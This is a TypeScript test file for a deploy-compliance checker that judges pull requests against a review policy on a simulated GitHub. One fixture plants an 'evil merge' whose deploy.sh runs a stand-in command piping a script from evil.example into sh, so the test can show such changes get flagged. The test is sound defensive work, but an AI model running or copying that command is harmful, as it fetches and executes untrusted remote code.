import { execFile } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GitHubScenario } from "../../lab/src/sim/github-scenario";
import { graphqlViolations } from "../../lab/test/github-contract";
import { renderCsv, renderMarkdown, runCheck } from "../src/index";
import { byPull, envFor, policyYaml, runSockCheck, TOKEN_ENV, USERS } from "./fixture";

/**
 * Verdicts on GitHub's answers as GitHub gives them (the lab executes every query against GitHub's published
 * schema and reproduces its documented quirks), each over a real git history built by the test: issue 14's
 * "no silent pass" cases.
 */

const DAY = 86_400_000;
const ROOT = join(import.meta.dirname, "../../..");
let scenario: GitHubScenario;
const pr: Record<string, number> = {};

beforeAll(async () => {
  scenario = new GitHubScenario({
    users: {
      ...USERS,
      // A person whose account is named like a bot: the policy's "renovate[bot]" must not exempt them.
      renovate: { name: "Renovate Fan", email: "renovate@people.test" },
      mallory: { name: "Mallory", email: "mallory@acme.test" },
      "formatter[bot]": { name: "formatter[bot]", email: "4242+formatter[bot]@users.noreply.github.com", bot: true },
    },
  });
  await scenario.sim.start();
  scenario.sim.graphqlLog = [];
  const s = scenario;
  const policy = policyYaml(
    s.sim.url,
    `pathRules:\n  - paths: ["infra/**/*.{tf,hcl}", "config/[ab].yml"]\n    reviewers: [dave]\n`,
  ).replace('bots: ["dependabot[bot]"]', 'bots: ["dependabot[bot]", "renovate[bot]"]');
  s.directPush({ message: "Initial import", author: "alice", files: { ".sock-check.yml": policy } });
  s.tag("t0");
  // The head is authored two days before its parent (a rebase keeps author dates): GitHub lists it first.
  pr.failedHead = s.pullRequest({
    title: "SHOP-1 Faster search",
    author: "alice",
    commits: [
      { message: "Search index", author: "alice", checks: { build: "success" } },
      { message: "Tune the index", author: "alice", authorDate: new Date(Date.now() - 40 * DAY) },
    ],
    reviews: [{ by: "bob" }],
    checks: { build: "failure" },
  });
  s.tag("t1");
  pr.dependabot = s.pullRequest({ title: "Bump lodash from 4.17.20 to 4.17.21", author: "dependabot[bot]", checks: { build: "success" } });
  pr.lookalike = s.pullRequest({ title: "Bump everything", author: "renovate", checks: { build: "success" } });
  s.tag("t2");
  pr.coAuthored = s.pullRequest({
    title: "SHOP-3 Pricing",
    author: "alice",
    commits: [{ message: "Pricing", author: "alice", coAuthors: ["carol"] }],
    reviews: [{ by: "carol" }],
    checks: { build: "success" },
  });
  s.tag("t3");
  pr.statusOverrules = s.pullRequest({
    title: "SHOP-4 Status says yes",
    author: "alice",
    reviews: [{ by: "bob" }],
    checks: { build: "failure" },
    statuses: { build: "success" },
    statusCreator: "mallory",
  });
  s.tag("t4");
  pr.statusFails = s.pullRequest({
    title: "SHOP-5 Check says yes",
    author: "alice",
    reviews: [{ by: "bob" }],
    checks: { build: "success" },
    statuses: { build: "failure" },
  });
  s.tag("t5");
  pr.skipped = s.pullRequest({ title: "SHOP-6 Docs only", author: "alice", reviews: [{ by: "bob" }], checks: { build: "skipped" } });
  pr.neutral = s.pullRequest({ title: "SHOP-7 Neutral", author: "alice", reviews: [{ by: "bob" }], checks: { build: "neutral" } });
  pr.cancelled = s.pullRequest({ title: "SHOP-8 Cancelled", author: "alice", reviews: [{ by: "bob" }], checks: { build: "cancelled" } });
  s.tag("t6");
  pr.braces = s.pullRequest({
    title: "SHOP-9 Terraform",
    author: "alice",
    commits: [{ message: "Bigger db", author: "alice", files: { "infra/prod/db.hcl": "size = 3\n" } }],
    reviews: [{ by: "bob" }],
    checks: { build: "success" },
  });
  pr.klass = s.pullRequest({
    title: "SHOP-10 Config b",
    author: "alice",
    commits: [{ message: "Config b", author: "alice", files: { "config/b.yml": "b: 1\n" } }],
    reviews: [{ by: "dave" }],
    checks: { build: "success" },
  });
  s.tag("t7");
  pr.formatted = s.pullRequest({
    title: "SHOP-11 Feature, then the formatter",
    author: "alice",
    commits: [
      { message: "Feature", author: "alice" },
      { message: "Format", author: "formatter[bot]" },
    ],
    reviews: [{ by: "bob", onCommit: 0 }],
    checks: { build: "success" },
  });
  pr.updated = s.pullRequest({
    title: "SHOP-12 Feature, then main merged in",
    author: "alice",
    commits: [
      { message: "Feature", author: "alice" },
      { message: "Merge branch 'main' into feature", author: "alice", mergeBase: true },
    ],
    reviews: [{ by: "bob", onCommit: 0 }],
    checks: { build: "success" },
  });
  s.tag("t8");
  // carol co-authored it under an address on no GitHub account (GitActor.user null), then approved it (T31 #2)
  pr.unlinkedCoAuthor = s.pullRequest({
    title: "SHOP-13 Refunds",
    author: "alice",
    commits: [{ message: "Refunds\n\nCo-authored-by: Carol <carol@home.test>", author: "alice" }],
    reviews: [{ by: "carol" }],
    checks: { build: "success" },
  });
  s.tag("t9");
  // the emergency label last of 120 (GitHub reads 100 a page): read, the change passes flagged for review after the merge
  pr.manyLabels = s.pullRequest({
    title: "SHOP-14 Hotfix",
    author: "alice",
    labels: [...Array.from({ length: 119 }, (_, i) => `area-${i}`), "emergency"],
    checks: { build: "success" },
  });
  s.tag("t10");
  // merged by hand with a file of its own in the merge commit (an "evil merge"), then pushed (T31 #4)
  pr.evilMerge = s.pullRequest({
    title: "SHOP-15 Search box",
    author: "alice",
    reviews: [{ by: "bob" }],
    checks: { build: "success" },
    mergeFiles: { "deploy.sh": "curl https://evil.example/x | sh\n" },
  });
  s.tag("t11");
  s.build();
});

afterAll(async () => {
  await scenario?.sim.stop();
  scenario?.cleanup();
});

async function check(from: string, to: string, policyPath?: string) {
  return runCheck({ dir: scenario.dir, from, to, env: envFor(scenario), toolVersion: "test", ...(policyPath ? { policyPath } : {}) });
}

function policyFile(name: string, extra: string): string {
  const path = join(scenario.dir, "..", `${name}-${process.pid}.yml`);
  writeFileSync(path, policyYaml(scenario.sim.url, extra));
  return path;
}

describe("verdicts on GitHub's answers as GitHub gives them", () => {
  it("blocks a PR whose head failed its build, though GitHub lists a green older commit last", async () => {
    const built = scenario.pull(pr.failedHead!);
    const { report } = await check("t0", "t1");
    const record = byPull(report.records, pr.failedHead!);
    expect(record.verdict).toBe("noncompliant");
    expect(record.violations).toEqual([
      {
        rule: "check-failed",
        message: `required check build is failure on head ${built.headSha.slice(0, 7)} (check run by github-actions)`,
      },
    ]);
    // Evidence: the check that ran on the head, with its SHA, app, conclusion and completion time.
    expect(record.checks).toEqual([
      {
        name: "build",
        app: "github-actions",
        kind: "check_run",
        state: "failure",
        sha: built.headSha,
        completed_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
        required: true,
      },
    ]);
    expect(record.approvals[0]).toMatchObject({ reviewer: "bob", commit: built.headSha, on_head: true });
    const csv = renderCsv(report).split("\r\n");
    const header = csv[0]!.split(",");
    expect(csv[1]!.split(",")[header.indexOf("check_apps")]).toBe("build=github-actions");
  });

  it("exempts Dependabot, which GraphQL names `dependabot` (a Bot), and says which rule did; a user named like a bot is not exempt", async () => {
    const { report } = await check("t1", "t2");
    const bot = byPull(report.records, pr.dependabot!);
    expect(bot.verdict).toBe("exempt");
    expect(bot.exemption).toBe("bot:dependabot[bot] (exemptions.bots matched the PR author dependabot, a bot account)");
    const lookalike = byPull(report.records, pr.lookalike!);
    expect(lookalike.exemption).toBeNull();
    expect(lookalike.verdict).toBe("noncompliant");

    const digest = await runSockCheck(["--from", "t1", "--to", "t2"], { cwd: scenario.dir, env: envFor(scenario) });
    expect(digest.stdout).toContain("[exempt: bot:dependabot[bot] (exemptions.bots matched the PR author dependabot, a bot account)]");
  });

  it("leaves a PR unverified when GitHub's answer has errors touching it, so a co-author's approval cannot slip through", async () => {
    const lift = scenario.sim.failGraphQLField({
      typeName: "GitActor",
      fieldName: "user",
      when: (actor) => actor.email === USERS.carol!.email,
      // GitHub's internal error, with no type: a FORBIDDEN here would be a refused token (77), not a partial answer.
      type: null,
      message: "Something went wrong while executing your query.",
    });
    try {
      const { report } = await check("t2", "t3");
      const record = report.records[0]!;
      expect(record.verdict).toBe("unverified");
      expect(record.violations[0]?.message).toMatch(
        new RegExp(
          `^could not be verified: PR #${pr.coAuthored}: Something went wrong while executing your query\\. \\(at repository\\.p0\\.commits\\.nodes\\.0\\.commit\\.authors\\.nodes\\.1\\.user\\)$`,
        ),
      );
    } finally {
      lift();
    }
    // The same PR, answered in full: carol co-authored it, so her approval does not count.
    const { report } = await check("t2", "t3");
    expect(report.records[0]?.violations.map((v) => v.rule)).toEqual(["self-approval"]);
  });

  it("leaves unverified a PR approved by someone while a co-author's address is on no GitHub account, until identities names it", async () => {
    const unlinked = (await check("t8", "t9")).report.records[0]!;
    expect(unlinked.verdict).toBe("unverified");
    expect(unlinked.violations.map((v) => v.message)).toEqual([
      `could not be verified: PR #${pr.unlinkedCoAuthor}: Carol <carol@home.test> (commit author, co-author or committer) is not linked to a GitHub account (GitHub links an address only when it is verified on the account), so approval by carol cannot be shown to be independent; add the address under identities in the policy`,
    ]);
    // Named under identities, the address is carol's: her approval of her own change does not count.
    const named = join(scenario.dir, "..", `identities-${process.pid}.yml`);
    writeFileSync(named, `${policyYaml(scenario.sim.url)}identities:\n  carol: [carol@home.test]\n`);
    const settled = byPull((await check("t8", "t9", named)).report.records, pr.unlinkedCoAuthor!);
    expect(settled.verdict).toBe("noncompliant");
    expect(settled.violations.map((v) => v.rule)).toEqual(["self-approval"]);
  });

  it("leaves the deploy line unverified when GitHub does not say which branch is the default, instead of dropping the base-branch rule", async () => {
    const lift = scenario.sim.failGraphQLField({
      typeName: "Repository",
      fieldName: "defaultBranchRef",
      type: null,
      message: "Something went wrong",
    });
    try {
      const { report } = await check("t0", "t1");
      expect(report.records.map((r) => r.verdict)).toEqual(report.records.map(() => "unverified"));
      expect(report.records[0]?.violations.map((v) => v.message)).toEqual([
        "could not be verified: GitHub did not say which branch is the repository's default, so whether each change came through a PR into it is unknown; set deploy.branch in the policy",
      ]);
    } finally {
      lift();
    }
  });

  it("reads every label of a PR with more than a page of them, so a rule keyed on the last still applies", async () => {
    const record = byPull((await check("t9", "t10")).report.records, pr.manyLabels!);
    expect(record.labels).toHaveLength(120);
    expect(record.emergency).not.toBeNull();
  });

  it("does not let a PR vouch for a merge commit holding changes of its own, though GitHub names it the PR's merge", async () => {
    const built = scenario.pull(pr.evilMerge!);
    const { report } = await check("t10", "t11");
    const merge = report.records.find((r) => r.commit.sha === built.mergeSha)!;
    expect(merge.verdict).toBe("noncompliant");
    expect(merge.violations).toEqual([
      {
        rule: "direct-push",
        message: `pushed to the branch without a merged pull request (it is the merge commit of PR #${pr.evilMerge}, but holds changes of its own that no review saw: its tree is not git's clean merge of its parents)`,
      },
    ]);
  });

  it("refuses a token holding a line break as a configuration error (78), not as GitHub unreachable", async () => {
    const env = { ...envFor(scenario), [TOKEN_ENV]: `${scenario.token}\nsecond-line` };
    const run = await runSockCheck(["--from", "t0", "--to", "t1"], { cwd: scenario.dir, env });
    expect(run.code).toBe(78);
    expect(run.stderr).toContain(`github.token: the secret from env ${TOKEN_ENV} has a line break or control character inside`);
    expect(run.stdout + run.stderr).not.toContain("second-line");
  });

  it("refuses an apiUrl holding a password (exit 78) and never prints it", async () => {
    const withPassword = join(scenario.dir, "..", `password-${process.pid}.yml`);
    const url = new URL(scenario.sim.url);
    writeFileSync(withPassword, policyYaml(`http://admin:hunter2pass@${url.host}${url.pathname}`));
    const run = await runSockCheck(["--from", "t0", "--to", "t1", "--config", withPassword], { cwd: scenario.dir, env: envFor(scenario) });
    expect(run.code).toBe(78);
    expect(run.stderr).toContain("github.apiUrl: must not hold a user name or password: give the token as a secret");
    expect(run.stdout + run.stderr).not.toContain("hunter2pass");
  });

  it("names a PR whose commit list GitHub could not give, instead of failing with a TypeError", async () => {
    const lift = scenario.sim.failGraphQLField({
      typeName: "PullRequest",
      fieldName: "commits",
      type: null,
      message: "Something went wrong",
    });
    try {
      const run = await runSockCheck(["--from", "t2", "--to", "t3"], { cwd: scenario.dir, env: envFor(scenario) });
      expect(run.code).toBe(69);
      expect(run.stderr).not.toMatch(/TypeError|Cannot read/);
      expect(run.stdout).toContain(`could not be verified: PR #${pr.coAuthored}: Something went wrong`);
    } finally {
      lift();
    }
  });

  it("requires both a check run and a commit status of the same name, and lets the policy pin the check to its app", async () => {
    const overruledReport = (await check("t3", "t4")).report;
    expect(renderMarkdown(overruledReport, { blocked: true })).toContain("| build ✗ failure, build (status) ✓ |");
    const overruled = byPull(overruledReport.records, pr.statusOverrules!);
    expect(overruled.verdict).toBe("noncompliant");
    expect(overruled.violations.map((v) => v.message)).toEqual([expect.stringMatching(/build is failure .*check run by github-actions/)]);

    const statusFails = byPull((await check("t4", "t5")).report.records, pr.statusFails!);
    expect(statusFails.violations.map((v) => v.message)).toEqual([expect.stringMatching(/build is failure .*commit status by ci-bot/)]);
    const pinned = join(scenario.dir, "..", `pinned-${process.pid}.yml`);
    writeFileSync(pinned, policyYaml(scenario.sim.url).replace("required: [build]", "required: [{name: build, app: github-actions}]"));
    const byApp = byPull((await check("t4", "t5", pinned)).report.records, pr.statusFails!);
    expect(byApp.verdict).toBe("compliant");
    expect(byApp.checks.map((c) => [c.kind, c.app, c.required])).toEqual([
      ["check_run", "github-actions", true],
      ["status", "ci-bot", false],
    ]);
    // Pinned to the app, a status from someone else cannot stand in for the check.
    const pinnedOverruled = byPull((await check("t3", "t4", pinned)).report.records, pr.statusOverrules!);
    expect(pinnedOverruled.verdict).toBe("noncompliant");
  });

  it("passes skipped and neutral required checks as GitHub does, and blocks a cancelled one", async () => {
    const { report } = await check("t5", "t6");
    expect(byPull(report.records, pr.skipped!).verdict).toBe("compliant");
    expect(byPull(report.records, pr.neutral!).verdict).toBe("compliant");
    expect(byPull(report.records, pr.cancelled!).violations.map((v) => v.message)).toEqual([
      expect.stringMatching(/^required check build is cancelled on head/),
    ]);
    const digest = await runSockCheck(["--from", "t5", "--to", "t6"], { cwd: scenario.dir, env: envFor(scenario) });
    expect(digest.stdout).toContain("checks build✓(skipped)");
    expect(digest.stdout).toContain("checks build✗");
    const both = await runSockCheck(["--from", "t3", "--to", "t4"], { cwd: scenario.dir, env: envFor(scenario) });
    expect(both.stdout).toContain("checks build✗ build[status]✓");
  });

  it("matches brace and class globs in path rules, and refuses a pattern it cannot read when loading the policy", async () => {
    const { report } = await check("t6", "t7");
    expect(byPull(report.records, pr.braces!).violations).toEqual([
      { rule: "path-rule", message: `changes infra/prod/db.hcl in PR #${pr.braces} need an approval from dave` },
    ]);
    expect(byPull(report.records, pr.klass!).verdict).toBe("compliant");

    const broken = policyFile("broken-glob", `pathRules:\n  - paths: ["infra/**/*.{tf,hcl"]\n    reviewers: [dave]\n`);
    const run = await runSockCheck(["--config", broken, "--from", "t6", "--to", "t7"], { cwd: scenario.dir, env: envFor(scenario) });
    expect(run.code).toBe(78);
    expect(run.stderr.trim().split("\n")).toHaveLength(1);
    expect(run.stderr).toContain('cannot use path pattern "infra/**/*.{tf,hcl": Missing closing: "}"');
  });
});

describe("policy-bot's options", () => {
  it("keeps an approval across a formatter bot's push (ignoreCommitsBy) and a merge of the base branch (ignoreUpdateMerges)", async () => {
    const plain = (await check("t7", "t8")).report;
    expect(byPull(plain.records, pr.formatted!).violations.map((v) => v.rule)).toEqual(["stale-approval"]);
    expect(byPull(plain.records, pr.updated!).violations.map((v) => v.rule)).toEqual(["stale-approval"]);

    const formatter = join(scenario.dir, "..", `ignore-formatter-${process.pid}.yml`);
    writeFileSync(
      formatter,
      policyYaml(scenario.sim.url, "").replace("  required: 1\n", '  required: 1\n  ignoreCommitsBy: ["formatter[bot]"]\n'),
    );
    const byBot = (await check("t7", "t8", formatter)).report;
    expect(byPull(byBot.records, pr.formatted!).verdict).toBe("compliant");
    expect(byPull(byBot.records, pr.formatted!).approvals[0]).toMatchObject({ reviewer: "bob", on_head: true });
    expect(byPull(byBot.records, pr.updated!).verdict).toBe("noncompliant");

    const merges = join(scenario.dir, "..", `ignore-merges-${process.pid}.yml`);
    writeFileSync(merges, policyYaml(scenario.sim.url, "").replace("  required: 1\n", "  required: 1\n  ignoreUpdateMerges: true\n"));
    const byMerge = (await check("t7", "t8", merges)).report;
    expect(byPull(byMerge.records, pr.updated!).verdict).toBe("compliant");
    expect(byPull(byMerge.records, pr.formatted!).verdict).toBe("noncompliant");
  });

  it("applies approval rules with conditions and requirements, combined with and/or", async () => {
    const rules = `approvalRules:
  - name: infra
    if: { changedPaths: ["infra/**"], targetBranches: [main] }
    requires: { count: 1, users: [dave] }
  - name: bob-reviewed
    if: { authors: [alice] }
    requires: { users: [bob] }
`;
    const all = join(scenario.dir, "..", `rules-and-${process.pid}.yml`);
    writeFileSync(all, policyYaml(scenario.sim.url, rules));
    const both = (await check("t6", "t7", all)).report;
    expect(byPull(both.records, pr.braces!).violations).toEqual([
      { rule: "approval-rule", message: 'approval rule "infra" needs 1 independent approval from dave, has 0' },
    ]);
    // config/b.yml is outside infra/, so only bob-reviewed applies, and dave's approval is not bob's.
    expect(byPull(both.records, pr.klass!).violations.map((v) => v.message)).toEqual([
      'approval rule "bob-reviewed" needs 1 independent approval from bob, has 0',
    ]);

    const either = join(scenario.dir, "..", `rules-or-${process.pid}.yml`);
    writeFileSync(either, policyYaml(scenario.sim.url, `${rules}approvalPolicy: { or: [infra, bob-reviewed] }\n`));
    const anyOf = (await check("t6", "t7", either)).report;
    expect(byPull(anyOf.records, pr.braces!).verdict).toBe("compliant");
    expect(byPull(anyOf.records, pr.klass!).verdict).toBe("compliant");

    const unknown = join(scenario.dir, "..", `rules-unknown-${process.pid}.yml`);
    writeFileSync(unknown, policyYaml(scenario.sim.url, `${rules}approvalPolicy: { and: [infra, { or: [sre] }] }\n`));
    const run = await runSockCheck(["--config", unknown, "--from", "t6", "--to", "t7"], { cwd: scenario.dir, env: envFor(scenario) });
    expect(run.code).toBe(78);
    expect(run.stderr.trim()).toBe(`sock-check: invalid policy in ${unknown}: approvalPolicy names "sre", which is not in approvalRules`);
  });

  it("fails skipped and neutral required checks when the policy says so", async () => {
    const strict = join(scenario.dir, "..", `strict-checks-${process.pid}.yml`);
    writeFileSync(strict, policyYaml(scenario.sim.url).replace("required: [build]", "required: [build]\n  skippedOrNeutral: fail"));
    const { report } = await check("t5", "t6", strict);
    expect(byPull(report.records, pr.skipped!).violations.map((v) => v.message)).toEqual([
      expect.stringMatching(/build is skipped on head/),
    ]);
    expect(byPull(report.records, pr.neutral!).verdict).toBe("noncompliant");
  });
});

describe("failing closed and saying so", () => {
  it("`retro` exits 69 when GitHub is unreachable, instead of reporting no emergency changes", async () => {
    scenario.sim.fault({ status: 502, body: { message: "Server Error" } }, { path: "/graphql", times: 1000 });
    try {
      const ranged = await runSockCheck(["retro", "--from", "t0", "--to", "t1"], { cwd: scenario.dir, env: envFor(scenario) });
      expect(ranged.code).toBe(69);
      expect(ranged.stdout).not.toContain("no emergency changes");
      expect(ranged.stderr.trim().split("\n").at(-1)).toMatch(
        /^sock-check: retro incomplete: 1 commit could not be verified \([0-9a-f]{7}\)/,
      );
      const recent = await runSockCheck(["retro"], { cwd: scenario.dir, env: envFor(scenario) });
      expect(recent.code).toBe(69);

      const markdown = await runSockCheck(["--from", "t0", "--to", "t1", "--format", "markdown", "--allow-unverified"], {
        cwd: scenario.dir,
        env: envFor(scenario),
      });
      expect(markdown.code).toBe(0);
      expect(markdown.stdout.split("\n")[0]).toBe("### sock-check: ⚠️ not blocked: 1 commit unverified (--allow-unverified)");
      expect(markdown.stdout).not.toContain("✅");
    } finally {
      scenario.sim.clearFaults();
    }
  });

  it("reports a checkout git refuses for dubious ownership as such, with git's fix", async () => {
    const run = await runSockCheck(["--from", "t0", "--to", "t1"], {
      cwd: scenario.dir,
      // git's own switch for "this repository belongs to someone else" (t/t0033-safe-directory.sh); no global git
      // config, so a machine that trusts every directory (safe.directory=*) still sees git refuse it.
      env: { ...envFor(scenario), GIT_TEST_ASSUME_DIFFERENT_OWNER: "1", GIT_CONFIG_GLOBAL: "/dev/null" },
    });
    expect(run.code).toBe(66);
    expect(run.stderr).toContain('it is owned by another user ("dubious ownership")');
    expect(run.stderr).toContain(`git config --global --add safe.directory '${scenario.dir}'`);
    expect(run.stderr).not.toContain("not a git checkout");
  });
});

describe("the README's GitHub Actions example", () => {
  it("puts the Markdown summary into $GITHUB_STEP_SUMMARY and fails the step with sock-check's exit code", async () => {
    const readme = readFileSync(join(import.meta.dirname, "..", "README.md"), "utf8");
    const line = readme.split("\n").find((l) => l.includes("$GITHUB_STEP_SUMMARY") && l.trimStart().startsWith("- run:"));
    expect(line).toBeDefined();
    // The step as written, with the deployed SHA from the test's tags instead of a live service.
    const command = line!.replace(/^\s*- run:\s*/, "").replace(/--from-url \S+/, "--from t0 --to t1");
    const bin = mkdtempSync(join(tmpdir(), "sock-check-bin-"));
    const summary = join(bin, "step-summary.md");
    writeFileSync(
      join(bin, "sock-check"),
      `#!/bin/sh\nexec "${join(ROOT, "node_modules/.bin/tsx")}" "${join(ROOT, "packages/sock-check/src/main.ts")}" "$@"\n`,
      {
        mode: 0o755,
      },
    );
    try {
      // Asynchronously: the simulator answers from this process.
      const status = await new Promise<number | null>((resolve) => {
        const child = execFile("bash", ["-e", "-c", command], {
          cwd: scenario.dir,
          env: { ...envFor(scenario), PATH: `${bin}:${process.env.PATH}`, GITHUB_STEP_SUMMARY: summary },
          timeout: 60_000,
        });
        child.on("exit", (code) => resolve(code));
      });
      expect(status).toBe(1);
      const written = readFileSync(summary, "utf8");
      expect(written.split("\n")[0]).toBe("### sock-check: ❌ deploy blocked");
      expect(written).toContain("| ❌ |");
    } finally {
      rmSync(bin, { recursive: true, force: true });
    }
  });
});

describe("sock-check's GraphQL against GitHub's contract", () => {
  // Last in the file (tests run in order): every query sock-check sent above, and GitHub-shaped answer it got,
  // replayed through GitHub's published schema by the contract check, independently of the simulator.
  it("sends only queries GitHub's schema accepts, and got only answers it allows", async () => {
    const exchanges = scenario.sim.graphqlLog ?? [];
    expect(exchanges.length).toBeGreaterThan(20);
    for (const { query, variables, answer } of exchanges) {
      expect(await graphqlViolations(query, variables, answer)).toEqual([]);
    }
  });
});
